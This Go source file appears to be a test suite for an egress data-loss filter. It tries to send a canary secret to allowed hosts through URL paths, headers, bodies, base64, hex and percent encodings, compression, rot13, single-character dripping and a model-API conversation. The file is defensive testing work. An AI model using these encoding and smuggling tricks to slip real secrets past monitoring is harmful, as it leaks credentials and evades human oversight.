package attack

import (
	"bytes"
	"compress/gzip"
	"compress/zlib"
	"encoding/base64"
	"encoding/hex"
	"fmt"
	"io"
	"strings"

	"github.com/andybalholm/brotli"
	"github.com/klauspost/compress/zstd"
)

// secretCases carry a secret of the run to hosts that are listed. Their canaries are
// among what the doors are told that nothing may hold.
func secretCases() []Case {
	const layer = "the egress door looks for the run's secrets"
	known := func(id, title, seed string, run func(*prober) []Try) Case {
		return Case{ID: id, Title: title, Class: Secrets, Seed: seed, Tier: Full, Layer: layer, Rules: []string{"dlp-known-secret"}, Known: true,
			Twin: "the same without the secret arrives", run: run, twin: func(p *prober) Try { return p.postTo("a body", "words of "+p.twin, "") }}
	}
	measured := func(id, title string, run func(*prober) []Try) Case {
		c := known(id, title, "", run)
		c.Measured, c.Rules = true, []string{"dlp-known-secret", "dlp-encoding"}
		return c
	}
	encodings := func(make func(string) []string) func(*prober) []Try {
		return func(p *prober) (tries []Try) {
			for i, text := range make(p.canary) {
				tries = append(tries, p.postTo(fmt.Sprintf("spelling %d", i+1), text, WantDoor))
			}
			return tries
		}
	}
	conversation := known("H28", "a secret inside a call to the model's own API", "", secretInConversation)
	conversation.Layer, conversation.Rules = "the egress door makes it unreadable", nil
	conversation.Twin, conversation.twin = "a plain message passes", modelMessage
	return []Case{
		known("H27", "a secret in the path, the query, a header, the body of a request to a listed host", "3a–3d", secretAnywhere),
		conversation,
		known("X01", "a secret as it is", "", encodings(func(s string) []string { return []string{s, strings.Repeat("x", 70_000) + s} })),
		known("X02", "a secret in base64", "", encodings(func(s string) (list []string) {
			for phase := range 3 {
				list = append(list, base64.StdEncoding.EncodeToString([]byte(strings.Repeat("?", phase)+s+"??")))
			}
			return append(list, base64.RawURLEncoding.EncodeToString([]byte("~~"+s)))
		})),
		known("X03", "a secret in hex, percent and \\u escapes", "", encodings(func(s string) []string {
			percent, unicode := "", ""
			for _, c := range []byte(s) {
				percent, unicode = percent+fmt.Sprintf("%%%02x", c), unicode+fmt.Sprintf(`\u%04x`, c)
			}
			return []string{hex.EncodeToString([]byte(s)), strings.ToUpper(hex.EncodeToString([]byte(s))), percent, `{"text": "` + unicode + `"}`}
		})),
		known("X04", "a secret in a compressed body", "", compressed),
		measured("X05", "a secret reversed, by rot13, interleaved", respelled),
		measured("X07", "a secret in a zip, in a comment of a picture", wrapped),
		measured("X09", "a secret by one character a request, and by more", dripped),
	}
}

// postTo sends a body to a listed host that takes any.
func (p *prober) postTo(name, body string, want Want, lines ...string) Try {
	host := p.plan.Hosts.Forge
	return try(name, want, func() (answer, error) { return p.fetch(host, post(host, "/notes", body, lines...)) })
}

func secretAnywhere(p *prober) []Try {
	host := p.plan.Hosts.Listed
	tries := []Try{p.postTo("the body", `{"note": "`+p.canary+`"}`, WantDoor, "Content-Type: application/json\r\n")}
	for name, raw := range map[string]string{
		"the path": get(host, "/open/"+p.canary), "the query": get(host, "/open?q="+p.canary), "a header": get(host, "/open", "X-Note: "+p.canary+"\r\n"),
		"pieces": get(host, "/open?q="+p.canary[:10]+"-"+p.canary[10:20]+"%20.%20"+p.canary[20:]),
	} {
		tries = append(tries, try(name, WantDoor, func() (answer, error) { return p.fetch(host, raw) }))
	}
	return tries
}

// secretInConversation may pass: the conversation goes on, without the secret.
func secretInConversation(p *prober) (tries []Try) {
	const wire = "anthropic"
	host := p.plan.Hosts.Models[wire]
	for name, text := range map[string]string{"plain": p.canary, "base64": base64.StdEncoding.EncodeToString([]byte(p.canary))} {
		body := `{"model":"m","max_tokens":1,"messages":[{"role":"user","content":"it is ` + text + `"}]}`
		tries = append(tries, try(name, WantDropped, func() (answer, error) {
			return p.fetch(host, post(host, modelPaths[wire].message, body, "Content-Type: application/json\r\n"))
		}))
	}
	return tries
}

func compressed(p *prober) (tries []Try) {
	for encoding, make := range map[string]func(io.Writer) io.WriteCloser{
		"gzip":    func(w io.Writer) io.WriteCloser { return gzip.NewWriter(w) },
		"deflate": func(w io.Writer) io.WriteCloser { return zlib.NewWriter(w) },
		"br":      func(w io.Writer) io.WriteCloser { return brotli.NewWriter(w) },
		"zstd":    zstandard,
	} {
		body := packed(make, strings.Repeat("words ", 100)+p.canary)
		tries = append(tries, p.postTo(encoding, body, WantDoor, "Content-Encoding: "+encoding+"\r\n"))
	}
	return tries
}

func zstandard(w io.Writer) io.WriteCloser {
	z, err := zstd.NewWriter(w)
	if err != nil {
		panic(err) // of options, of which there are none
	}
	return z
}

func packed(make func(io.Writer) io.WriteCloser, text string) string {
	var b bytes.Buffer
	w := make(&b)
	io.WriteString(w, text)
	w.Close()
	return b.String()
}
